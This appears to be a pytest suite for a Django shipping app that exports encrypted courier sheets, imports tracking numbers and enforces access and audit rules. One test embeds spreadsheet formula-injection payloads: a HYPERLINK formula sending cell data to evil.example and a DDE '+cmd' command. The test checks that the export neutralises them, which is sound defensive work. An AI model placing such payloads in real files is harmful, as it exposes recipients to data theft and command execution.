"""Files out (issue 5, item 9): courier upload sheets behind a reason and a file password,
tracking numbers from a courier's result file, the marketplaces' tracking uploads."""

from __future__ import annotations

import io
import re
import zipfile

import msoffcrypto
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from msoffcrypto.exceptions import InvalidKeyError
from python_calamine import CalamineWorkbook

from jikim.accounts.models import Tenant
from jikim.audit.models import AccessRecord
from jikim.shipping import outbound
from jikim.shipping.models import CourierLayout, Order, Party, Shipment
from tests.shipping import marketplace_files as files
from tests.shipping.test_import_flow import _import

pytestmark = pytest.mark.django_db

PASSWORD = "택배-pass-2024"
OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")

# marketplace-formats.txt §6, copied here so that a typo in the layout fails this test.
CNPLUS_HEADERS = [
    "예약구분", "집하예정일", "받는분성명", "받는분전화번호", "받는분기타연락처",
    "받는분우편번호", "받는분주소(전체, 분할)", "운송장번호", "고객주문번호", "품목명",
    "박스수량", "박스타입", "기본운임", "배송메세지1", "배송메세지2",
]  # fmt: skip
UNTRACKED = files.PEOPLE[:3]  # the fourth Smartstore order already has a CJ number


# --- helpers ------------------------------------------------------------------------------


def decrypt(data: bytes, password: str = PASSWORD) -> bytes:
    office = msoffcrypto.OfficeFile(io.BytesIO(data))
    office.load_key(password=password, verify_password=True)
    plain = io.BytesIO()
    office.decrypt(plain)
    return plain.getvalue()


def read_book(data: bytes) -> tuple[list[str], list[list[str]]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    names = book.sheet_names
    rows = book.get_sheet_by_name(names[0]).to_python(skip_empty_area=False)
    return names, [["" if c is None else str(c) for c in row] for row in rows]


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def courier_post(client, slug: str = "alice", **overrides):
    data = {
        "layout": "cj_cnplus",
        "which": "untracked",
        "reason": "CJ 택배 접수",
        "password": PASSWORD,
    }
    data.update(overrides)
    return client.post(f"/t/{slug}/files/courier/", data)


def imported(member, data: bytes | None = None):
    batch = _import(member, data or files.smartstore_xlsx())
    assert batch.status == "committed", batch.problems
    return batch


def csv_upload(rows: list[list[str]], name: str = "result.csv") -> SimpleUploadedFile:
    text = "\r\n".join(",".join(row) for row in rows) + "\r\n"
    return SimpleUploadedFile(name, text.encode("utf-8-sig"))


def smartstore_order(i: int) -> Order:
    return Order.objects.get(tenant__slug="alice", product_order_no=str(2024060112345678 + i))


# --- courier sheets ----------------------------------------------------------------------


def test_cj_sheet_has_the_spec_headers_and_the_right_recipients(alice, login) -> None:
    imported(alice)
    response = courier_post(login(alice))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Cache-Control"] == "no-store"

    names, rows = read_book(decrypt(response.content))
    assert names == ["Sheet1"]
    assert rows[0] == CNPLUS_HEADERS
    sheet = {row["받는분성명"]: row for row in as_dicts(rows)}
    assert set(sheet) == {p.name for p in UNTRACKED}
    first = sheet[files.PEOPLE[0].name]
    assert first["받는분전화번호"] == files.PEOPLE[0].phone
    assert first["받는분기타연락처"] == files.PEOPLE[0].phone2
    assert first["받는분우편번호"] == files.PEOPLE[0].postcode
    assert first["받는분주소(전체, 분할)"] == f"{files.PEOPLE[0].base} {files.PEOPLE[0].detail}"
    # The column CNPlus echoes back carries the line's own number (issue: swapped numbers).
    assert first["고객주문번호"] == smartstore_order(0).product_order_no
    assert first["품목명"] == files.PRODUCTS[0][0]
    assert first["배송메세지1"] == files.MESSAGES[0]
    assert first["예약구분"] == "1"


def test_the_download_is_an_encrypted_file_without_plaintext(alice, login) -> None:
    imported(alice)
    data = courier_post(login(alice)).content
    assert data[:8] == OLE_MAGIC and not zipfile.is_zipfile(io.BytesIO(data))
    for person in UNTRACKED:
        for value in (person.name, person.phone, person.base):
            assert value.encode() not in data and value.encode("utf-16-le") not in data
    office = msoffcrypto.OfficeFile(io.BytesIO(data))
    assert office.is_encrypted()
    with pytest.raises(InvalidKeyError):
        office.load_key(password="wrong-password", verify_password=True)


def test_a_reason_and_a_password_are_required(alice, login) -> None:
    imported(alice)
    client = login(alice)
    page = courier_post(client, reason="").content.decode()
    assert "내려받는 사유를 입력하세요" in page
    page = courier_post(client, reason="   ").content.decode()
    assert "사유를 입력하세요" in page
    page = courier_post(client, password="").content.decode()
    assert "파일 비밀번호를 입력하세요" in page
    page = courier_post(client, password="12345").content.decode()
    assert "6자 이상" in page and 'value="12345"' not in page
    page = courier_post(client, reason="").content.decode()
    assert PASSWORD not in page, "the password is never echoed back"
    assert not AccessRecord.objects.filter(action__in=["download", "export"]).exists()


def test_the_download_is_recorded_with_its_reason_and_every_recipient(alice, login) -> None:
    imported(alice)
    courier_post(login(alice), reason="오늘 출고분 CJ 접수")
    record = AccessRecord.objects.get(action="download")
    untracked = Party.objects.filter(order__in=[smartstore_order(i) for i in range(len(UNTRACKED))])
    assert record.reason == "오늘 출고분 CJ 접수"
    assert record.purpose == "service_delivery"
    assert record.actor_id == alice.pk
    assert record.tenant_id == Tenant.objects.get(slug="alice").pk
    assert record.subjects == sorted(p.subject for p in untracked)
    assert "shipping.Party.customs_code" not in record.detail["fields"]
    stored = list(AccessRecord.objects.values_list("reason", "detail"))
    assert PASSWORD not in repr(stored), "the file password is never stored"


def test_formula_injection_is_neutralised_in_the_download(alice, login) -> None:
    rows = files.smartstore_rows()
    rows[0]["상품명"] = '=HYPERLINK("http://evil.example/?x="&A1,"무료 쿠폰")'
    rows[0]["배송메세지"] = "+cmd|' /C calc'!A0"
    rows[1]["옵션정보"] = "@SUM(1+1)"
    data = files.xlsx(files.SMARTSTORE_V2, rows, above=[[files.SMARTSTORE_INSTRUCTION]],
                      sheet_name="발주발송관리")  # fmt: skip
    imported(alice, data)
    plain = decrypt(courier_post(login(alice)).content)
    _, sheet = read_book(plain)
    first = {row["받는분성명"]: row for row in as_dicts(sheet)}[files.PEOPLE[0].name]
    assert first["품목명"] == "'" + rows[0]["상품명"]
    assert first["배송메세지1"] == "'+cmd|' /C calc'!A0"
    for row in sheet:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    with zipfile.ZipFile(io.BytesIO(plain)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no cell is a formula"


def test_orders_are_chosen_by_tracking_batch_and_date(alice, login) -> None:
    batch = imported(alice)
    client = login(alice)
    _, rows = read_book(decrypt(courier_post(client, which="all").content))
    assert len(rows) - 1 == files.order_count()
    _, rows = read_book(decrypt(courier_post(client, batch=str(batch.pk)).content))
    assert len(rows) - 1 == len(UNTRACKED)
    _, rows = read_book(
        decrypt(
            courier_post(client, which="all", date_from="2024-06-02", date_to="2024-06-02").content
        )
    )
    assert {r["받는분성명"] for r in as_dicts(rows)} == {files.PEOPLE[2].name, files.PEOPLE[3].name}
    page = courier_post(client, date_from="2030-01-01").content.decode()
    assert "조건에 맞는 주문이 없습니다" in page
    assert AccessRecord.objects.filter(action="download").count() == 3


def test_the_courier_sheet_keeps_to_the_chosen_marketplace(alice, login) -> None:
    imported(alice)  # Smartstore orders only
    client = login(alice)
    elsewhere = courier_post(client, marketplace="coupang")
    assert elsewhere.status_code == 200
    assert "조건에 맞는 주문이 없습니다" in elsewhere.content.decode()
    sheet = courier_post(client, marketplace="smartstore")
    assert sheet.status_code == 200 and sheet["Content-Disposition"].startswith("attachment")
    unknown = courier_post(client, marketplace="amazon")
    assert "판매처를 목록에서 고르세요." in unknown.content.decode()


def test_every_courier_layout_downloads_and_unverified_ones_are_marked(alice, login) -> None:
    imported(alice)
    client = login(alice)
    page = client.get("/t/alice/files/courier/").content.decode()
    assert page.count(outbound.UNVERIFIED_NOTE) == 3
    for layout_id in outbound.COURIER_SHEETS:
        response = courier_post(client, layout=layout_id)
        assert response.status_code == 200 and response.content[:8] == OLE_MAGIC, layout_id
        _, rows = read_book(decrypt(response.content))
        assert len(rows) - 1 == len(UNTRACKED), layout_id
        assert files.PEOPLE[0].name in {c for row in rows for c in row}, layout_id


def test_a_tenant_adjusts_an_unverified_layout(alice, staff_of_alice, login) -> None:
    imported(alice)
    client = login(alice)
    url = "/t/alice/files/layouts/hanjin_default/"
    assert client.get(url).status_code == 200
    form = {
        "position": ["2", "1", "3", "4", ""],
        "header": ["받는분", "운송장번호 자리", "받는분 주소", "받는분 휴대폰", ""],
        "source": ["recipient_name", "", "recipient_address", "recipient_phone1", ""],
    }
    assert client.post(url, form).status_code == 302
    saved = CourierLayout.objects.get(tenant__slug="alice", layout_id="hanjin_default")
    assert [h for h, _ in saved.columns] == [
        "운송장번호 자리",
        "받는분",
        "받는분 주소",
        "받는분 휴대폰",
    ]
    _, rows = read_book(decrypt(courier_post(client, layout="hanjin_default").content))
    assert rows[0] == ["운송장번호 자리", "받는분", "받는분 주소", "받는분 휴대폰"]
    assert {r["받는분"] for r in as_dicts(rows)} == {p.name for p in UNTRACKED}

    page = client.post(url, {"position": ["1"], "header": ["받는분"], "source": ["recipient_name"]})
    assert "필수 항목" in page.content.decode()
    assert client.post(url + "reset/").status_code == 302
    assert not CourierLayout.objects.exists()
    assert client.get("/t/alice/files/layouts/cj_cnplus/").status_code == 404
    assert client.get("/t/alice/files/layouts/nothing/").status_code == 404
    agent = login(staff_of_alice("cs_agent"))
    assert agent.get(url).status_code == 403
    assert agent.post(url, form).status_code == 403


# --- tracking numbers from a courier's result file ----------------------------------------


def preview(client, rows: list[list[str]], courier: str = "cj", **extra):
    return client.post(
        "/t/alice/files/tracking/", {"courier": courier, "file": csv_upload(rows), **extra}
    )


def apply(client, page: str):
    token = re.search(r'name="token" value="([^"]+)"', page)
    assert token, "the preview offers to apply"
    return client.post("/t/alice/files/tracking/apply/", {"token": token.group(1)})


def test_tracking_numbers_are_previewed_then_applied(alice, login) -> None:
    imported(alice)
    client = login(alice)
    o0, o1, o2 = (smartstore_order(i) for i in range(3))
    rows = [
        ["운송장번호", "고객주문번호", "받는분성명"],
        ["6012-3456-7890", o0.order_no, "가나다"],
        ["601234567891", o1.product_order_no, "가나다"],
        ["6012345678", o2.order_no, "가나다"],
    ]
    page = preview(client, rows).content.decode()
    assert 'data-testid="tracking-preview"' in page and "3건 반영하기" in page
    assert not Shipment.objects.filter(tracking_no="601234567890").exists(), (
        "preview changes nothing"
    )

    response = apply(client, page)
    assert response.status_code == 302
    assert response.url == "/t/alice/files/marketplace/", "next: the marketplaces' sheets"
    shipped = {s.order_id: s for s in Shipment.objects.filter(order__in=[o0, o1, o2])}
    assert shipped[o0.pk].tracking_no == "601234567890"
    assert shipped[o1.pk].tracking_no == "601234567891"
    assert shipped[o2.pk].tracking_no == "6012345678"
    assert all(s.courier == "CJ대한통운" and s.shipped_at is not None for s in shipped.values())
    record = AccessRecord.objects.get(action="shipping.tracking_apply")
    assert record.actor_id == alice.pk and record.detail["created"] == 3
    # The CJ sheet now leaves them out: they have tracking numbers.
    assert "조건에 맞는 주문이 없습니다" in courier_post(client).content.decode()
    # Applying the same preview again changes nothing.
    apply(client, page)
    assert (
        AccessRecord.objects.filter(action="shipping.tracking_apply").last().detail["unchanged"]
        == 3
    )


def test_wrong_length_and_unknown_orders_are_reported_by_row(alice, login) -> None:
    imported(alice)
    client = login(alice)
    o0, o1 = smartstore_order(0), smartstore_order(1)
    rows = [
        ["운송장번호", "고객주문번호"],
        ["60123456789", o0.order_no],  # 11 digits: not a CJ number
        ["601234567892", "2099123100000001"],  # no such order
        ["601234567893", o1.order_no],
    ]
    page = preview(client, rows).content.decode()
    invalid = page.split('data-testid="invalid"', 1)[1]
    assert "2행" in invalid and "10자리 또는 12자리" in invalid
    unmatched = page.split('data-testid="unmatched"', 1)[1].split("</table>", 1)[0]
    assert "<td>3</td>" in unmatched and "2099123100000001" in unmatched
    assert "1건 반영하기" in page
    apply(client, page)
    assert Shipment.objects.get(order=o1).tracking_no == "601234567893"
    assert not Shipment.objects.filter(order=o0).exists()


def test_an_xlsx_result_file_with_number_cells(alice, login) -> None:
    imported(alice)
    o0 = smartstore_order(0)
    header = ["보내는분", "운송장번호", "고객주문번호"]
    rows = [{"보내는분": "지킴상회", "운송장번호": 601234567890, "고객주문번호": int(o0.order_no)}]
    upload = SimpleUploadedFile("결과.xlsx", files.xlsx(header, rows, above=[["CJ 결과"]]))
    client = login(alice)
    page = client.post("/t/alice/files/tracking/", {"courier": "cj", "file": upload})
    assert "1건 반영하기" in page.content.decode()
    apply(client, page.content.decode())
    assert Shipment.objects.get(order=o0).tracking_no == "601234567890"


def test_a_result_file_without_an_order_column_names_one(alice, login) -> None:
    imported(alice)
    client = login(alice)
    rows = [
        ["수하인명", "운송장번호", "주문번호"],
        ["가", "60123456789", smartstore_order(0).order_no],
    ]
    page = preview(client, rows, courier="logen").content.decode()
    assert "주문번호 열이 없어" in page
    page = preview(client, rows, courier="logen", order_column="주문번호").content.decode()
    assert "1건 반영하기" in page


def _one_order_of_three_lines(alice, *, one_recipient: bool) -> list[int]:
    rows = files.smartstore_rows()
    for row in rows[:3]:
        row["주문번호"] = "2024060199999999"  # one order, three product lines
        if one_recipient:
            person = files.PEOPLE[0]
            row.update({
                "수취인명": person.name, "수취인연락처1": person.phone,
                "수취인연락처2": person.phone2, "우편번호": person.postcode,
                "통합배송지": f"{person.base} {person.detail}", "기본배송지": person.base,
                "상세배송지": person.detail,
            })  # fmt: skip
    data = files.xlsx(files.SMARTSTORE_V2, rows, above=[[files.SMARTSTORE_INSTRUCTION]])
    imported(alice, data)
    return [smartstore_order(i).pk for i in range(3)]


def _by_order_no(*numbers: str) -> bytes:
    body = "".join(f"{n},2024060199999999\r\n" for n in numbers)
    return ("운송장번호,고객주문번호\r\n" + body).encode()


def test_an_order_number_shared_by_different_recipients_is_never_paired(alice) -> None:
    _one_order_of_three_lines(alice, one_recipient=False)
    tenant = Tenant.objects.get(slug="alice")
    for numbers in (["601234567890"], ["601234567890", "601234567891", "601234567892"]):
        preview = outbound.preview_tracking(tenant, data=_by_order_no(*numbers), courier_id="cj")
        assert preview.matched == [], "no line gets a number it may not have been printed for"
        assert [r.row for r in preview.ambiguous] == list(range(2, 2 + len(numbers)))
        assert "어느 상품주문의 송장인지 알 수 없습니다" in preview.ambiguous[0].message


def test_one_parcel_for_one_recipients_lines_takes_one_number(alice) -> None:
    lines = _one_order_of_three_lines(alice, one_recipient=True)
    tenant = Tenant.objects.get(slug="alice")
    one = outbound.preview_tracking(tenant, data=_by_order_no("601234567890"), courier_id="cj")
    assert [m.order_id for m in one.matched] == lines, "one parcel for the whole order"
    assert {m.tracking_no for m in one.matched} == {"601234567890"}
    # Three parcels: which product is in which one is not in the file. Not guessed.
    three = _by_order_no("601234567890", "601234567891", "601234567892")
    each = outbound.preview_tracking(tenant, data=three, courier_id="cj")
    assert each.matched == [] and len(each.ambiguous) == 3
    assert "3개 행에 있고 상품주문은 3건" in each.ambiguous[0].message


def test_a_bad_result_file_is_refused_and_nothing_is_applied(alice, login) -> None:
    imported(alice)
    client = login(alice)
    before = list(Shipment.objects.values_list("order_id", "tracking_no"))
    corrupt = SimpleUploadedFile("결과.xlsx", b"PK\x03\x04" + b"\x00garbage" * 50)
    page = client.post("/t/alice/files/tracking/", {"courier": "cj", "file": corrupt})
    assert "택배사 결과 파일을 읽을 수 없습니다" in page.content.decode()
    page = preview(client, [["이름", "주소"], ["가", "나"]]).content.decode()
    assert "머리글 행을 찾지 못했습니다" in page
    page = client.post("/t/alice/files/tracking/", {"courier": "cj"}).content.decode()
    assert "파일을 선택하세요" in page
    forged = client.post("/t/alice/files/tracking/apply/", {"token": "forged:token"}, follow=True)
    assert "미리보기 정보가 올바르지 않습니다" in forged.content.decode()
    assert list(Shipment.objects.values_list("order_id", "tracking_no")) == before
    assert not AccessRecord.objects.filter(action="shipping.tracking_apply").exists()


def test_a_preview_of_one_tenant_cannot_be_applied_in_another(alice, bob, login) -> None:
    imported(alice)
    imported(bob)
    order = Order.objects.filter(tenant__slug="alice").order_by("pk").first()
    page = preview(login(alice), [["운송장번호", "고객주문번호"], ["601234567890", order.order_no]])
    token = re.search(r'name="token" value="([^"]+)"', page.content.decode()).group(1)
    response = login(bob).post("/t/bob/files/tracking/apply/", {"token": token}, follow=True)
    assert "미리보기 정보가 올바르지 않습니다" in response.content.decode()
    assert not Shipment.objects.filter(tracking_no="601234567890").exists()


# --- marketplace tracking uploads ---------------------------------------------------------


def test_smartstore_dispatch_sheet(alice, staff_of_alice, login) -> None:
    imported(alice)
    agent = login(staff_of_alice("cs_agent"))  # shipping staff may make it: no personal data
    response = agent.post("/t/alice/files/marketplace/smartstore/")
    assert response.status_code == 200
    assert zipfile.is_zipfile(io.BytesIO(response.content)), "no personal data: no password"
    names, rows = read_book(response.content)
    assert names == ["발송처리"]
    assert rows[0] == ["상품주문번호", "배송방법", "택배사", "송장번호"]
    assert rows[1:] == [[str(2024060112345678 + 3), "택배,등기,소포", "CJ대한통운", "612345678901"]]
    record = AccessRecord.objects.get(action="export")
    assert record.subjects == [] and record.purpose == "service_delivery"
    assert record.detail["personal_data"] is False
    assert not AccessRecord.objects.filter(action="download").exists()


def test_coupang_invoice_sheet_leaves_the_recipient_columns_blank(alice, login) -> None:
    imported(alice, files.coupang_xlsx())
    tenant = Tenant.objects.get(slug="alice")
    order = Order.objects.filter(tenant=tenant, marketplace="coupang").order_by("pk")[1]
    outbound.do_apply_tracking(
        alice, tenant, courier_id="cj", assignments=[(order.pk, "612345678902")]
    )
    client = login(alice)
    upload = SimpleUploadedFile("DeliveryList.xlsx", files.coupang_xlsx())
    response = client.post("/t/alice/files/marketplace/coupang/", {"cp-file": upload})
    assert response.status_code == 200, response.content.decode()[:500]
    names, rows = read_book(response.content)
    assert names == ["송장업로드"] and rows[0] == files.COUPANG_V2
    [row] = as_dicts(rows)
    assert row["묶음배송번호"] == str(412345678900 + 1)
    assert row["주문번호"] == order.order_no
    assert row["옵션ID"] == str(87012345670 + 1)
    assert row["택배사"] == "CJ대한통운" and row["운송장번호"] == "612345678902"
    personal = ["구매자", "구매자전화번호", "수취인이름", "수취인전화번호", "우편번호"]
    personal += ["수취인 주소", "배송메세지", "개인통관번호(PCCC)", "통관용구매자전화번호"]
    for column in personal:
        assert row[column] == "", column
    cells = {c for r in rows for c in r}
    assert not cells & ({p.name for p in files.PEOPLE} | {p.phone for p in files.PEOPLE})
    assert AccessRecord.objects.get(action="export").subjects == []

    wrong = SimpleUploadedFile("x.xlsx", files.smartstore_xlsx())
    page = client.post("/t/alice/files/marketplace/coupang/", {"cp-file": wrong})
    assert "쿠팡 Wing 배송목록(DeliveryList) 파일이 아닙니다" in page.content.decode()


# --- who may ------------------------------------------------------------------------------


def test_personal_data_downloads_need_the_export_permission(alice, staff_of_alice, login) -> None:
    imported(alice)
    for role in ("cs_agent", "viewer"):
        client = login(staff_of_alice(role))
        assert client.get("/t/alice/files/courier/").status_code == 403, role
        assert courier_post(client).status_code == 403, role
        assert client.get("/t/alice/files/layouts/").status_code == 403, role
        assert client.get("/t/alice/files/").status_code == 200, role
    viewer = login(staff_of_alice("viewer"))
    assert viewer.get("/t/alice/files/tracking/").status_code == 403
    assert viewer.post("/t/alice/files/marketplace/smartstore/").status_code == 403
    manager = staff_of_alice("manager")
    assert courier_post(login(manager)).status_code == 200
    assert list(
        AccessRecord.objects.filter(action="download").values_list("actor_id", flat=True)
    ) == [manager.pk]


def test_charlie_gets_404_for_everything_of_alices(alice, charlie, login) -> None:
    batch = imported(alice)
    client = login(charlie)
    for url in [
        "/t/alice/files/", "/t/alice/files/courier/", f"/t/alice/files/courier/?batch={batch.pk}",
        "/t/alice/files/tracking/", "/t/alice/files/marketplace/", "/t/alice/files/layouts/",
        "/t/alice/files/layouts/hanjin_default/", f"/t/charlie/files/courier/?batch={batch.pk}",
    ]:  # fmt: skip
        assert client.get(url).status_code == 404, url
    for url in [
        "/t/alice/files/courier/", "/t/alice/files/tracking/", "/t/alice/files/tracking/apply/",
        "/t/alice/files/marketplace/smartstore/", "/t/alice/files/marketplace/coupang/",
        "/t/alice/files/layouts/hanjin_default/", "/t/alice/files/layouts/hanjin_default/reset/",
    ]:  # fmt: skip
        assert client.post(url).status_code == 404, url
    # Charlie's own sheet never holds Alice's recipients.
    page = courier_post(client, slug="charlie", batch=str(batch.pk)).content.decode()
    assert "선택한 업로드를 찾을 수 없습니다" in page
    assert not AccessRecord.objects.filter(action="download").exists()
